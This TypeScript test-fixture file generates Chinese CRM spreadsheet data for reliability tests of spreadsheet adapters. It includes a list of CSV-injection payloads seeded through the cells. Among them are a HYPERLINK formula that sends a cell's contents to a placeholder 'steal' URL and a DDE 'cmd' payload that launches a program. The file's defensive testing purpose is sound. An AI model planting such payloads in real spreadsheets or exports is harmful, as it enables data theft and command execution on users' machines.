/**
 * Small workbooks (as cell arrays) that the reliability tests run every adapter over: a ledger
 * with title rows, unknown columns, notes right of the header's last cell, and text that a
 * spreadsheet would run as a formula if it were typed.
 */
import type { RawCell } from "../../src/engine/cells/types";

/** OWASP's CSV-injection starters (= + - @ tab CR LF), each as a plausible cell. */
export const INJECTIONS: readonly string[] = [
  '=HYPERLINK("http://example.invalid/steal?d="&A1,"点我")',
  "+1+1",
  "-2+3",
  "@SUM(1,2)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "=cmd|' /C calc'!A0",
];

const STAGES = ["意向客户", "商机客户", "谈判阶段", "成交客户", "流失客户"] as const;
const STAGE_CODES: Record<(typeof STAGES)[number], string> = {
  意向客户: "YX",
  商机客户: "SJ",
  谈判阶段: "TP",
  成交客户: "CJ",
  流失客户: "LS",
};

export const LEDGER_HEADER: readonly string[] = [
  "客户编号",
  "客户名称",
  "所属行业",
  "区域",
  "企业规模",
  "客户阶段",
  "流失前阶段",
  "流失原因",
  "预估采购金额(万元)",
  "成交概率",
  "战略价值",
  "负责人",
  "录入日期",
  "我的备注",
];

/** The header sits on row 3 under a title and a blank row; two columns right of it have no header. */
export const LEDGER_HEADER_ROW = 3;

export function injectionLedger(rows = 24): RawCell[][] {
  const sheet: RawCell[][] = [["2026 客户台账 =SUM(1)", null, "+备注"], []];
  sheet.push([...LEDGER_HEADER]);
  for (let i = 0; i < rows; i++) {
    const stage = STAGES[i % STAGES.length];
    const injection = INJECTIONS[i % INJECTIONS.length];
    const lost = stage === "流失客户";
    sheet.push([
      `ZZ-DX-${STAGE_CODES[stage]}-${String(i + 1).padStart(3, "0")}`,
      i % 3 === 0 ? injection : `华东精密${i}有限公司`,
      i % 7 === 3 ? injection : "制造业-汽车零部件",
      // Every payload in turn: the funnel sheet's table by region echoes each one.
      injection,
      "大型",
      stage,
      lost ? "谈判阶段" : null,
      lost ? injection : null,
      i % 9 === 4 ? injection : 10 + 7 * i,
      0.1 * (i % 10),
      i % 5 === 0 ? "行业标杆" : "普通",
      i % 6 === 2 ? injection : "张伟",
      46023 + 7 * i,
      i % 2 === 0 ? "老客户介绍" : injection,
      // Right of the header's last cell: a note, and on some rows one more column further.
      `无表头备注 ${i}`,
      i % 5 === 0 ? { error: "#N/A" } : null,
    ]);
  }
  return sheet;
}

export function injectionFollowups(rows = 40, customers = 24): RawCell[][] {
  const sheet: RawCell[][] = [
    ["客户编号", "跟进时间", "跟进方式", "跟进人", "跟进内容", "下一步行动", "下一步时间", "完成状态"],
  ];
  for (let i = 0; i < rows; i++) {
    const customer = i % customers;
    const stage = STAGES[customer % STAGES.length];
    sheet.push([
      `ZZ-DX-${STAGE_CODES[stage]}-${String(customer + 1).padStart(3, "0")}`,
      46082 + 3 * i + 0.4,
      "电话",
      INJECTIONS[i % INJECTIONS.length],
      INJECTIONS[(i + 3) % INJECTIONS.length],
      "发送方案",
      46113 + i,
      "进行中",
    ]);
  }
  return sheet;
}

/** A sheet of the user's own that no refresh may touch. */
export function notesSheet(): RawCell[][] {
  return [
    ["客户数", "=COUNTA(客户台账!A4:A1000)"],
    ["说明", "本表由销售经理维护"],
    [null, null, 42],
  ];
}
